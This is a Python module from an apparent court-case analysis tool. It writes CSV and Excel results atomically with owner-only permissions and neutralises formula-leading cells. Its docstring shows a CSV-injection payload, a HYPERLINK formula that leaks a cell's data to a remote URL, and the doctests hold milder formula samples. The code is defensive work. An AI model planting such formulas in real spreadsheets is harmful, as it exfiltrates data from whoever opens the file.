"""Write a result: cells that stay text, whole results, and nothing half-written.

**Cells stay text.** A spreadsheet takes a cell that starts with ``=``, ``+``,
``-`` or ``@`` (or a tab or carriage return before one) for a formula: a
party named ``=HYPERLINK("http://…?leak="&A2)`` would run when a judge opens
the file. :func:`text_cells` prefixes such a cell with ``'`` (as OWASP
advises for CSV injection); :func:`write_csv` and :func:`write_sheets` (and
the clerk's 结果.xlsx, :mod:`casegraph.write.workbook`), the only ways
casegraph writes a table, all go through it, and a workbook's cells are
written as strings, never formulas.

**Nothing half-written.** Three ways to write, one for each shape of output,
all of them staged beside their place and renamed into it:

* :func:`atomic_file`: one file (the day's routes);
* :func:`write_tables`: a result folder: its CSVs and any other parts (the
  report, a workbook) are staged together and moved in as one unit,
  ``summary.json`` last: a folder with a summary is a whole result; a run
  that fails leaves the previous result (or nothing) behind, never a mix
  that looks whole;
* :func:`atomic_folder`: a folder replaced whole (a report on its own).

**One writer at a time.** :func:`out_lock` holds a result folder for a whole
run: a second run into the same folder is refused with one line. Under the
lock, staging left behind by a killed run is removed.

:func:`casegraph.write.result.write_result` (an analysis) and
:func:`write_plan` (a clearing plan) write through :func:`write_tables`.

Every temporary name starts with ``.casegraph-``. Every file written is
its owner's only (0600, folders 0700): results name parties, and the routes,
flags and findings of one court should not differ in who may read them.
"""
from __future__ import annotations

import contextlib
import json
import os
import shutil
import tempfile
from concurrent.futures import ThreadPoolExecutor
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pandas as pd
import pyarrow.compute as pc
from filelock import FileLock, Timeout

from casegraph import contract as C
from casegraph.columns import arrow_text
from casegraph.errors import OutputError
from casegraph.write.csvtext import write_csv as _polars_csv


STAGE_PREFIX = ".casegraph-"
LOCK_FILE = ".casegraph.lock"
# Staging names of earlier versions, removed as stale too.
_OLD_STAGES = (".report-",)

# What a spreadsheet reads as the start of a formula (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# The same starts for Arrow's regex engine (RE2).
_FORMULA_RE2 = "^[" + "".join("\\" + c if c == "-" else c for c in "".join(FORMULA_START)) + "]"


def text_cells(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with every text cell that a spreadsheet would take for a
    formula prefixed with ``'``; numbers stay numbers. The one function every
    CSV and workbook writer of casegraph goes through (a copy is made only
    when a cell changes).

    >>> df = pd.DataFrame({"name": ["=HYPERLINK(\\"http://x\\")", "张三", "-1+2", "@SUM(A1)"], "amount": [-5.0, 1, 2, 3]})
    >>> text_cells(df)["name"].tolist(), text_cells(df)["amount"].tolist()
    (['\\'=HYPERLINK("http://x")', '张三', "'-1+2", "'@SUM(A1)"], [-5.0, 1.0, 2.0, 3.0])
    """
    out = df
    for i, col in enumerate(df.columns):
        s = df.iloc[:, i]
        if not (s.dtype == object or pd.api.types.is_string_dtype(s.dtype)):
            continue
        # One pass of Arrow's regex engine (pandas' startswith of a tuple on
        # Arrow text goes prefix by prefix); cells that are not text never match.
        hit = pc.fill_null(pc.match_substring_regex(arrow_text(s), _FORMULA_RE2), False).to_numpy(zero_copy_only=False)
        if hit.any():
            if out is df:
                out = df.copy()
            fixed = s.to_numpy(dtype=object).copy()
            fixed[hit] = ["'" + v for v in fixed[hit]]
            out.isetitem(i, pd.Series(fixed, index=df.index, dtype=s.dtype))
    return out


def text_cell(value):
    """:func:`text_cells` for one value.

    >>> text_cell("=1+1"), text_cell("王五"), text_cell(-3)
    ("'=1+1", '王五', -3)
    """
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def write_csv(df: pd.DataFrame, path: Path, columns=None) -> None:
    """A table as a CSV Excel opens (BOM, yuan with two decimals), its cells
    neutralised (:func:`text_cells`); ``columns`` picks and orders them."""
    if columns is not None:
        df = df.reindex(columns=list(columns))
    _polars_csv(text_cells(df), path)  # pandas' bytes, written by polars


def write_sheets(sheets: Mapping[str, pd.DataFrame], path: Path) -> None:
    """Tables as the sheets of one .xlsx workbook, every cell neutralised
    (:func:`text_cells`) and text written as text, never as a formula.

    >>> import openpyxl
    >>> book = Path(tempfile.mkdtemp()) / "flags.xlsx"
    >>> write_sheets({"flags": pd.DataFrame({"name": ["=1+1"]})}, book)
    >>> cell = openpyxl.load_workbook(book)["flags"]["A2"]
    >>> cell.value, cell.data_type
    ("'=1+1", 's')
    """
    with pd.ExcelWriter(path, engine="openpyxl") as xl:
        for name, df in sheets.items():
            text_cells(df).to_excel(xl, sheet_name=name, index=False)


def _fsync(path: Path) -> None:
    """Force a written file to disk before it is renamed into place: a power
    cut after the rename must not leave an empty file under the real name."""
    fd = os.open(path, os.O_RDWR)  # Windows flushes only a handle open for writing
    try:
        os.fsync(fd)
    finally:
        os.close(fd)


@contextlib.contextmanager
def atomic_file(path: str | Path, what: str = "the file") -> Iterator[Path]:
    """A temporary path beside ``path`` to write; when the block ends without
    an error it is flushed to disk and renamed onto ``path``, else removed.

    The file is made readable by its owner only (0600), as ``mkstemp`` makes
    it. An ``OSError`` becomes one :class:`OutputError` line naming ``path``
    and ``what`` is written.

    >>> folder = Path(tempfile.mkdtemp())
    >>> with atomic_file(folder / "routes.csv", "the routes") as tmp:
    ...     _ = tmp.write_text("case_no\\n", encoding="utf-8")
    >>> [p.name for p in folder.iterdir()], oct((folder / "routes.csv").stat().st_mode & 0o777)
    (['routes.csv'], '0o600')
    >>> with atomic_file(folder / "routes.csv", "the routes") as tmp:
    ...     raise OSError(28, "No space left on device")
    Traceback (most recent call last):
    casegraph.errors.OutputError: .../routes.csv: writing the routes failed (No space left on device)
    >>> [p.name for p in folder.iterdir()]
    ['routes.csv']
    """
    path = Path(path)
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        fd, name = tempfile.mkstemp(prefix=STAGE_PREFIX, suffix=path.suffix, dir=path.parent)
        os.close(fd)
    except OSError as e:
        raise OutputError(f"{path}: cannot write {what} here ({e.strerror})") from None
    tmp = Path(name)
    try:
        yield tmp
        _fsync(tmp)
        os.replace(tmp, path)
    except OSError as e:
        raise OutputError(f"{path}: writing {what} failed ({e.strerror})") from None
    finally:
        tmp.unlink(missing_ok=True)


@contextlib.contextmanager
def atomic_folder(path: str | Path, what: str = "the folder") -> Iterator[Path]:
    """A staging folder beside ``path`` to fill; when the block ends without
    an error it replaces ``path`` whole, else it is removed and ``path``
    stays as it was.

    >>> folder = Path(tempfile.mkdtemp())
    >>> with atomic_folder(folder / "report", "the report") as site:
    ...     _ = (site / "index.html").write_text("<html></html>", encoding="utf-8")
    >>> [p.name for p in folder.iterdir()], [p.name for p in (folder / "report").iterdir()]
    (['report'], ['index.html'])
    """
    out = Path(path)
    try:
        out.parent.mkdir(parents=True, exist_ok=True)
        stage = Path(tempfile.mkdtemp(prefix=STAGE_PREFIX, dir=out.parent))
    except OSError as e:
        raise OutputError(f"{out}: cannot write {what} here ({e.strerror})") from None
    try:
        yield stage
        _owner_only(stage)
        old = None
        if out.exists():
            old = out.parent / f"{STAGE_PREFIX}{out.name}-old-{os.getpid()}"
            os.replace(out, old)
        os.replace(stage, out)
        if old is not None:
            shutil.rmtree(old, ignore_errors=True)
    except OSError as e:
        raise OutputError(f"{out}: writing {what} failed ({e.strerror})") from None
    finally:
        shutil.rmtree(stage, ignore_errors=True)


def _owner_only(folder: Path) -> None:
    """What ``folder`` holds, readable by its owner only (as ``mkstemp`` makes a file)."""
    for path in folder.rglob("*"):
        os.chmod(path, 0o700 if path.is_dir() else 0o600)


def write_plan(plan, out_dir: str | Path) -> Path:
    """Write a clearing plan (:class:`casegraph.find.clearing.ClearingPlan`):
    its tables and ``summary.json`` into ``out_dir``, as :func:`write_tables`
    does. A folder that holds another kind of result (an analysis) is
    refused rather than mixed."""
    out = Path(out_dir)
    old = out / C.SUMMARY_FILE
    if old.is_file():
        try:
            kind = json.loads(old.read_text(encoding="utf-8")).get("kind")
        except (OSError, ValueError):
            kind = None
        if kind != "clearing":
            raise OutputError(f"{out}: holds another result (its {C.SUMMARY_FILE} is not a clearing plan); "
                              "write the plan to its own folder")
    return write_tables(plan.tables(), plan.outputs, plan.summary, out)


# The locks this process holds, by folder: a run holds its folder's lock from
# start to end, and the writing inside it takes the same lock again.
_LOCKS: dict[Path, FileLock] = {}


@contextlib.contextmanager
def out_lock(out_dir: str | Path) -> Iterator[Path]:
    """Hold ``out_dir`` (made if missing) for one run: another run into it,
    in this process or another, is refused with one :class:`OutputError`
    line while this one lasts. On taking it, staging left in the folder by a
    run that was killed is removed. A run that fails leaves no folder it
    made itself.

    >>> folder = Path(tempfile.mkdtemp()) / "results"
    >>> with out_lock(folder):
    ...     try:
    ...         FileLock(folder / LOCK_FILE, timeout=0).acquire()  # as another run would
    ...     except Timeout:
    ...         print("refused")
    refused
    """
    out = Path(out_dir)
    if out.exists() and not out.is_dir():
        raise OutputError(f"{out}: is a file, not a folder for the results")
    made = not out.exists()
    try:
        out.mkdir(parents=True, exist_ok=True)
        key = out.resolve()
        lock = _LOCKS.get(key) or _LOCKS.setdefault(key, FileLock(out / LOCK_FILE, timeout=0, mode=0o600))
        lock.acquire()
    except Timeout:
        raise OutputError(f"{out}: another casegraph run is writing its results here; wait for it to end, "
                          "or give another --out") from None
    except OSError as e:
        raise OutputError(f"{e.filename or out}: cannot write the results here ({e.strerror})") from None
    failed = False
    try:
        if lock.lock_counter == 1:
            _remove_stale_staging(out)
        yield out
    except BaseException:
        failed = True
        raise
    finally:
        lock.release()
        if failed and made and lock.lock_counter == 0:
            with contextlib.suppress(OSError):
                (out / LOCK_FILE).unlink()
                out.rmdir()  # only if empty: what the run wrote stays


def _remove_stale_staging(out: Path) -> None:
    """Staging of runs that were killed: nobody else writes here while the lock is held."""
    for p in out.iterdir():
        if p.name.startswith((STAGE_PREFIX, *_OLD_STAGES)):
            if p.is_dir() and not p.is_symlink():
                shutil.rmtree(p, ignore_errors=True)
            else:
                with contextlib.suppress(OSError):
                    p.unlink()


def write_tables(tables: dict[str, pd.DataFrame], outputs: dict[str, C.Output], summary: dict,
                 out_dir: str | Path, parts: Mapping[str, Callable[[Path], None] | None] | None = None) -> Path:
    """Write ``tables`` (by name; ``outputs[name]`` gives file and columns),
    ``parts`` and ``summary`` into ``out_dir`` as one unit (see the module
    docstring); returns the folder.

    ``parts`` maps a file or folder name to a function that writes it at the
    path it is given (the report site, a workbook); a name mapped to None is
    a part this result does not have, and an old one is removed. Everything
    is staged first: a part that fails leaves the previous result whole.
    """
    out = Path(out_dir)
    parts = dict(parts or {})
    with out_lock(out):
        try:
            stage = Path(tempfile.mkdtemp(prefix=STAGE_PREFIX, dir=out))
        except OSError as e:
            raise OutputError(f"{out}: cannot write the results here ({e.strerror})") from None
        touched = False  # whether the previous result (if any) was changed
        try:
            # The parts (a workbook, a report: Python, cell by cell) run beside
            # the CSVs (polars, which lets go of the interpreter): two cores.
            with ThreadPoolExecutor(max_workers=1) as pool:
                pending = [pool.submit(write, stage / name) for name, write in parts.items() if write is not None]
                for name, df in tables.items():
                    write_csv(df, stage / outputs[name].filename, outputs[name].columns)
                for job in pending:
                    job.result()
            (stage / C.SUMMARY_FILE).write_text(json.dumps(summary, ensure_ascii=False, indent=2), encoding="utf-8",
                                                    newline="\n")
            _owner_only(stage)
            for f in stage.iterdir():
                if f.is_file():
                    _fsync(f)
            touched = True
            (out / C.SUMMARY_FILE).unlink(missing_ok=True)  # the old result is no longer whole
            # A file of the old result this one does not have (assignments.csv of
            # a run with judges) must not pass for part of the new one.
            written = {outputs[name].filename for name in tables} | {n for n, w in parts.items() if w is not None}
            for name in [o.filename for o in outputs.values()] + list(parts):
                if name not in written:
                    _remove(out / name)
            for f in sorted(stage.iterdir(), key=lambda p: p.name == C.SUMMARY_FILE):
                _move_in(f, out / f.name, stage)
        except OSError as e:
            left = "no complete result was left" if touched else "the previous result there, if any, is untouched"
            raise OutputError(f"{out}: writing the results failed ({e.strerror}); {left}") from None
        finally:
            shutil.rmtree(stage, ignore_errors=True)
    return out


def _move_in(src: Path, dst: Path, stage: Path) -> None:
    """A staged file or folder onto its place; an old folder there goes back
    into the stage, to be removed with it."""
    if src.is_dir() and dst.is_dir() and not dst.is_symlink():
        os.replace(dst, stage / f"{STAGE_PREFIX}old-{dst.name}")
    os.replace(src, dst)


def _remove(path: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)
